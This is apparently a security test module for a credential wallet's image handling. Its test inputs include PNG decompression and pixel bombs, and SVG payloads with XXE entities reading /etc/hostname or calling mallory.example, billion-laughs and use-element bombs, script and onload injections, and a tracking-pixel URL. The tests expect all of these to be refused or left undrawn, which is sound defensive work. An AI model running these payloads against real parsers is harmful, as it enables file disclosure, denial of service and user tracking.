"""D9: pictures, F01 to F11. Read for the credential in it, by our own walkers, and never drawn."""

from __future__ import annotations

import base64
import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

from tests.attacks.cases import FINE, TWIN, VALID, Act, Expected, Input, Severity, case, malformed
from tests.attacks.learner import kept, learner
from tests.attacks.scene import achievement, judged_file, sealed, university
from tests.attacks.window import open_window, press, said, settled
from tests.simulators.pictures import badge_png, baked_svg
from tests.simulators.web import SimulatedWeb
from wallet.formats.pictures import PNG_MAGIC
from wallet.model.credential import Credential, Parsed
from wallet.model.limits import MAX_JSON_BYTES
from wallet.model.reasons import ReasonCode as R
from wallet.model.report import Report
from wallet.model.sharing import ShareTerms
from wallet.operations.sharing import present
from wallet.ui.dialogs.network_sheet import NetworkSheet

H, M = Severity.HIGH, Severity.MEDIUM
MIB = 1024 * 1024
_KEYWORD = b"openbadgecredential"


# --- PNG ---


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png(*chunks: bytes, width: int = 1, height: int = 1, end: bytes = b"") -> bytes:
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return (PNG_MAGIC + header + b"".join(chunks) + _chunk(b"IDAT", zlib.compress(b"\0\0"))
            + _chunk(b"IEND", b"") + end)


def _itxt(text: bytes, keyword: bytes = _KEYWORD) -> bytes:
    return _chunk(b"iTXt", keyword + b"\0\0\0\0\0" + text)


def _ztxt(text: bytes, keyword: bytes = _KEYWORD) -> bytes:
    return _chunk(b"zTXt", keyword + b"\0\0" + zlib.compress(text, 9))


def _packed_itxt(text: bytes, keyword: bytes = _KEYWORD) -> bytes:
    return _chunk(b"iTXt", keyword + b"\0\x01\0\0\0" + zlib.compress(text, 9))


@case("F01", H, "64 MiB of text in a picture of 64 kB",
      attacks={"zTXt": malformed(R.LIMIT_BYTES), "iTXt": malformed(R.LIMIT_BYTES),
               "one byte too much": malformed(R.LIMIT_BYTES), "beside the credential": VALID,
               "in a photograph": malformed(R.PICTURE_DAMAGED)},
      twins={TWIN: VALID, "iTXt, packed": VALID})
def _text_bomb(variant: str) -> Input:
    issuer = university()
    bomb, good = bytes(64 * MIB), issuer.badge()
    made: dict[str, Callable[[], bytes]] = {
        "zTXt": lambda: _png(_ztxt(bomb)), "iTXt": lambda: _png(_packed_itxt(bomb)),
        "one byte too much": lambda: _png(_ztxt(b"{" + b" " * MAX_JSON_BYTES)),
        "beside the credential": lambda: _png(_ztxt(bomb, b"Comment"), _itxt(good)),
        "in a photograph": lambda: _png(_ztxt(bomb, b"Comment")),
        TWIN: lambda: _png(_ztxt(good)), "iTXt, packed": lambda: _png(_packed_itxt(good))}
    return judged_file(made[variant](), issuer)


_TWO = malformed(R.PICTURE_TWO_CREDENTIALS)


@case("F02", H, "two credentials in one picture, of which a library shows the last",
      attacks={"two iTXt": _TWO, "twice the same iTXt": _TWO, "tEXt and iTXt": _TWO, "iTXt and tEXt": _TWO,
               "old and new keyword": _TWO, "zTXt and iTXt": _TWO},
      twins={TWIN: VALID, "tEXt and iTXt say the same": VALID})
def _two_chunks(variant: str) -> Input:
    issuer = university()
    good, other = issuer.badge_jwt(), issuer.badge_jwt(title="Surgery", number=2)
    text = _chunk(b"tEXt", _KEYWORD + b"\0" + other)
    made = {"two iTXt": (_itxt(good), _itxt(other)), "twice the same iTXt": (_itxt(good), _itxt(good)),
            "tEXt and iTXt": (text, _itxt(good)), "iTXt and tEXt": (_itxt(good), text),
            "old and new keyword": (_itxt(good, b"openbadges"), _itxt(other)),
            "zTXt and iTXt": (_ztxt(other), _itxt(good)), TWIN: (_itxt(good),),
            "tEXt and iTXt say the same": (_chunk(b"tEXt", _KEYWORD + b"\0" + good), _itxt(good))}
    return judged_file(_png(*made[variant]), issuer)


_DAMAGED = malformed(R.PICTURE_DAMAGED)


def _bad_checksum(data: bytes) -> bytes:
    changed = bytearray(_png(_itxt(data)))
    changed[len(PNG_MAGIC) + 25 + 8 + len(_KEYWORD) + 10] ^= 1
    return bytes(changed)


def _archive() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("evil", b"x")
    return target.getvalue()


def _tight(data: bytes) -> Callable[[Report, Parsed | None], None]:
    """What is shared of a picture is the credential in it, and nothing that hangs behind."""
    def holds(_report: Report, parsed: Parsed | None) -> None:
        assert isinstance(parsed, Credential)
        assert parsed.original.payload == data
        with learner() as session:
            shown = present(session, [kept(session, parsed.original.data)], ShareTerms())
            assert b"evil" not in shown.pack
    return holds


@case("F03", M, "damaged chunks, and a picture that is something else behind its end",
      attacks={"bad checksum": _DAMAGED, "length 0x7fffffff": _DAMAGED, "length 0xffffffff": _DAMAGED,
               "a chunk behind the end": _DAMAGED, "no end": _DAMAGED, "cut": _DAMAGED,
               "a ZIP behind the end": VALID, "a page behind the end": VALID})
def _damaged(variant: str) -> Input:
    issuer = university("did:key")
    data = issuer.badge()
    good = _png(_itxt(data))
    made = {"bad checksum": _bad_checksum(data),
            "length 0x7fffffff": good.replace(struct.pack(">I", 13) + b"IHDR", b"\x7f\xff\xff\xffIHDR"),
            "length 0xffffffff": good.replace(struct.pack(">I", 13) + b"IHDR", b"\xff\xff\xff\xffIHDR"),
            "a chunk behind the end": _png(_itxt(data), end=_itxt(b"{}")),
            "no end": good[:-12], "cut": good[:-1], "a ZIP behind the end": good + _archive(),
            "a page behind the end": good + b"<html><script>evil</script></html>", TWIN: good}
    inert = variant in (TWIN, "a ZIP behind the end", "a page behind the end")
    return judged_file(made[variant], issuer, holds=_tight(data) if inert else None)


def _animated(*text: bytes) -> bytes:
    """A picture with a control chunk for ten thousand frames and that many frames."""
    frames = b"".join(
        _chunk(b"fcTL", struct.pack(">IIIIIHHBB", 2 * number, 1, 1, 0, 0, 1, 100, 0, 0))
        + _chunk(b"fdAT", struct.pack(">I", 2 * number + 1) + zlib.compress(b"\0\0"))
        for number in range(10_000))
    return _png(_chunk(b"acTL", struct.pack(">II", 10_000, 0)), *text, frames)


@case("F04", M, "a picture of 2.5 thousand million pixels, and one of ten thousand frames",
      attacks={"baked, 50,000 x 50,000": malformed(R.LIMIT_PIXELS),
               "a photograph, 50,000 x 50,000": malformed(R.LIMIT_PIXELS),
               "one row too many": malformed(R.LIMIT_PIXELS), "ten thousand frames": VALID,
               "ten thousand frames without a credential": malformed(R.PICTURE_EMPTY)},
      twins={TWIN: VALID, "exactly 25 million": VALID})
def _pixels(variant: str) -> Input:
    issuer = university()
    good = _itxt(issuer.badge())
    made: dict[str, Callable[[], bytes]] = {
        "baked, 50,000 x 50,000": lambda: _png(good, width=50_000, height=50_000),
        "a photograph, 50,000 x 50,000": lambda: _png(width=50_000, height=50_000),
        "one row too many": lambda: _png(good, width=5_000, height=5_001),
        "exactly 25 million": lambda: _png(good, width=5_000, height=5_000),
        "ten thousand frames": lambda: _animated(good),
        "ten thousand frames without a credential": _animated, TWIN: lambda: _png(good)}
    return judged_file(made[variant](), issuer)


# --- SVG ---

_SVG_REFUSED = malformed(R.SVG_REFUSED)
_DECLARATIONS = {
    "an entity from a file": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
    "an entity from the net": '<!DOCTYPE svg [<!ENTITY x SYSTEM "http://mallory.example/x">]>',
    "a parameter entity": '<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://mallory.example/p.dtd"> %p;]>',
    "billion laughs": "<!DOCTYPE svg [<!ENTITY a0 'ha'>" + "".join(
        f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)) + "]>",
    "an element declared": "<!DOCTYPE svg [<!ELEMENT svg ANY>]>",
    "an attribute declared": '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "x()">]>',
}
_NAMED_DTD = ('<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
              '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">')


def _declared(svg: bytes, declaration: str) -> bytes:
    head, found, rest = svg.partition(b"<svg")
    assert found
    body = rest.replace(b"</svg>", b"<text>&x;</text></svg>") if "ENTITY x" in declaration else rest
    return head + declaration.encode() + found + body


@case("F05", H, "an SVG that declares entities, or anything else",
      attacks=dict.fromkeys(_DECLARATIONS, _SVG_REFUSED),
      twins={TWIN: VALID, "the SVG DTD by name only": VALID})
def _declarations(variant: str) -> Input:
    issuer = university()
    good = baked_svg(issuer.badge())
    declaration = _NAMED_DTD if "by name" in variant else _DECLARATIONS.get(variant, "")
    return judged_file(_declared(good, declaration) if declaration else good, issuer)


def _drawn_nowhere(report: Report, parsed: Parsed | None) -> None:
    """An SVG is read for what is in it and is no picture for us; what draws SVG draws our own icons only."""
    _no_picture(report, parsed)
    window = Path(sys.modules["wallet.model"].__file__ or "").parents[1] / "ui"
    drawers = {path.name for path in window.rglob("*.py")
               if "QtSvg" in path.read_text(encoding="utf-8").replace("QtSvgWidgets", "QtSvg")}
    assert drawers <= {"icons.py"}, drawers


def _no_picture(_report: Report, parsed: Parsed | None) -> None:
    assert isinstance(parsed, Credential)
    assert parsed.achievement.picture == ""


def _svg_with(issuer_badge: bytes, inside: str) -> bytes:
    return baked_svg(issuer_badge).replace(b"</svg>", inside.encode() + b"</svg>")


_LINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'


@case("F06", H, "an SVG that names files of this computer",
      attacks=dict.fromkeys(
          ("a bare path", "file:", "http:", "in a style", "as a data URI of the badge"), VALID))
def _svg_paths(variant: str) -> Input:
    issuer = university()
    inside = {"a bare path": f'<image {_LINK} xlink:href="/etc/hostname.png" width="9" height="9"/>',
              "file:": f'<image {_LINK} xlink:href="file:///etc/hostname.png"/>',
              "http:": f'<image {_LINK} xlink:href="http://mallory.example/x.png"/>',
              "in a style": '<style>@import url("/etc/hostname.css");</style>'}.get(variant, "")
    hostile = f'<svg xmlns="http://www.w3.org/2000/svg" {_LINK}><image xlink:href="/etc/x.png"/></svg>'
    uri = "data:image/svg+xml;base64," + base64.b64encode(hostile.encode()).decode()
    data = issuer.badge() if "data URI" not in variant else sealed(
        issuer, lambda one: achievement(one).update(image={"id": uri, "type": "Image"}))
    return judged_file(_svg_with(data, inside), issuer, holds=_drawn_nowhere)


def _use_bomb(levels: int) -> str:
    groups = "".join(
        f'<g id="g{level}">' + f'<use {_LINK} xlink:href="#g{level - 1}"/>' * 10 + "</g>"
        for level in range(1, levels))
    return f'<g id="g0"><rect width="1" height="1"/></g>{groups}<use {_LINK} xlink:href="#g{levels - 1}"/>'


@case("F07", M, "an SVG whose parts repeat each other a million times",
      attacks={"10^6": VALID, "10^12": VALID, "a circle": VALID})
def _svg_repeats(variant: str) -> Input:
    issuer = university()
    inside = {"10^6": _use_bomb(7), "10^12": _use_bomb(13), "a circle":
              f'<g id="a"><use {_LINK} xlink:href="#a"/></g>'}.get(variant, "")
    return judged_file(_svg_with(issuer.badge(), inside), issuer, holds=_drawn_nowhere)


_ACTIVE = {
    "script": "<script>fetch('http://mallory.example')</script>",
    "foreignObject": '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
                     '<iframe src="//mallory.example"/></body></foreignObject>',
    "onload": '<g onload="alert(1)"/>',
    "an external style": '<style>@import "http://mallory.example/a.css";</style>',
    "a width of a thousand million": '<rect width="1000000000" height="1000000000"/>',
    "an animation": '<animate attributeName="href" values="http://mallory.example/"/>',
}


@case("F08", M, "an SVG with script and style",
      attacks={**dict.fromkeys(_ACTIVE, VALID), "a style sheet instruction": VALID})
def _svg_active(variant: str) -> Input:
    issuer = university()
    data = _svg_with(issuer.badge(), _ACTIVE.get(variant, ""))
    if variant == "a style sheet instruction":
        data = data.replace(b"<svg", b'<?xml-stylesheet href="http://mallory.example/a.css"?><svg', 1)
    return judged_file(data, issuer, holds=_drawn_nowhere)


_NEW = 'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"'


@case("F09", M, "an SVG with two credentials, or with an address instead of one",
      attacks={"two": _TWO, "a token and a credential": _TWO, "old and new element": _TWO,
               "an address": Expected("undetermined")})
def _svg_two(variant: str) -> Input:
    issuer = university()
    good, token = issuer.badge().decode(), issuer.badge_jwt().decode()
    one = f"<openbadges:credential {_NEW}><![CDATA[{good}]]></openbadges:credential>"
    made = {"two": one + one, TWIN: one,
            "a token and a credential":
                f'<openbadges:credential {_NEW} verify="{token}"><![CDATA[{good}]]></openbadges:credential>',
            "old and new element": one + f'<o:assertion xmlns:o="http://openbadges.org" verify="{token}"/>',
            "an address": '<o:assertion xmlns:o="http://openbadges.org" verify="https://mallory.example/1"/>'}
    svg = f'<svg xmlns="http://www.w3.org/2000/svg">{made[variant]}</svg>'
    return judged_file(svg.encode(), issuer)


def _picture_of(_report: Report, parsed: Parsed | None) -> None:
    assert isinstance(parsed, Credential)
    assert parsed.achievement.picture.startswith("data:image/png;base64,")


@case("F10", H, "pictures inside a credential: huge, or no picture at all",
      attacks={"50 MB": malformed(R.LIMIT_BYTES), "4 MB": malformed(R.LIMIT_STRING),
               "text/html": VALID, "image/svg+xml": VALID, "HTML that calls itself PNG": VALID,
               "a PNG of 2.5 thousand million pixels": VALID, "not base64": VALID, "a path": VALID})
def _data_uris(variant: str) -> Input:
    issuer = university()
    html, svg = (base64.b64encode(text).decode() for text in (b"<script>x</script>", b"<svg/>"))
    huge = base64.b64encode(_png(width=50_000, height=50_000)).decode()
    made = {"text/html": f"data:text/html;base64,{html}", "image/svg+xml": f"data:image/svg+xml;base64,{svg}",
            "HTML that calls itself PNG": f"data:image/png;base64,{html}",
            "a PNG of 2.5 thousand million pixels": f"data:image/png;base64,{huge}",
            "not base64": "data:image/png;base64,%%%", "a path": "file:///etc/hostname.png"}
    good = "data:image/png;base64," + base64.b64encode(badge_png()).decode()
    uri = made.get(variant, good)
    data = sealed(issuer, lambda one: achievement(one).update(image={"id": uri, "type": "Image"}))
    if variant in ("50 MB", "4 MB"):
        size = 50_000_000 if variant == "50 MB" else 4_000_000
        return judged_file(data.replace(good.encode(), good.encode() + b"A" * size), issuer)
    return judged_file(data, issuer, holds=_picture_of if variant == TWIN else _no_picture)


def _remote(_report: Report, parsed: Parsed | None) -> None:
    assert isinstance(parsed, Credential)
    assert parsed.achievement.picture == ""
    assert parsed.achievement.picture_url.startswith(("https://mallory.example/", "http://mallory.example/"))


@case("F11", H, "a badge picture that is elsewhere and would tell who looks",
      attacks={"https": VALID, "http": VALID, "as a string": VALID, "looked at in the window": FINE,
               "asked for, and the sheet sent away": FINE},
      twins={TWIN: VALID, "asked for, and allowed": FINE})
def _tracker(variant: str) -> Input:
    if "window" in variant or "asked for" in variant:
        return Act(lambda: _in_the_window(variant))
    issuer = university()
    address = f"{'http' if variant == 'http' else 'https'}://mallory.example/pixel.png?id=maya"
    good = "data:image/png;base64," + base64.b64encode(badge_png()).decode()
    uri = good if variant == TWIN else address
    image = uri if variant == "as a string" else {"id": uri, "type": "Image"}
    data = sealed(issuer, lambda one: achievement(one).update(image=image))
    return judged_file(data, issuer, holds=_picture_of if variant == TWIN else _remote)


def _in_the_window(variant: str) -> None:
    """Nothing is asked until the learner has seen whom; what came is kept, and never asked for again."""
    address = "https://mallory.example/pixel.png"
    web = SimulatedWeb()
    web.put(address, badge_png(), "image/png")
    data = university("did:key").badge(picture=address)
    with learner() as session:
        session.services = replace(session.services, fetcher=web)
        ident = kept(session, data)
        with open_window(session) as (desktop, work):
            work.open_detail(ident)
            settled(desktop)
            assert "Its picture is at mallory.example and was not loaded." in said(work.detail)
            if "asked for" in variant:
                press(desktop, "step_picture")
                (sheet,) = desktop.window.findChildren(NetworkSheet)
                assert "mallory.example" in said(sheet)
                assert not web.requests  # the sheet comes first
                press(desktop, "sheet_once" if "allowed" in variant else "sheet_cancel")
            work.open_detail(ident)
            settled(desktop)
            assert ("was not loaded" in said(work.detail)) is ("allowed" not in variant)
    assert dict(web.requests) == ({address: 1} if "allowed" in variant else {})
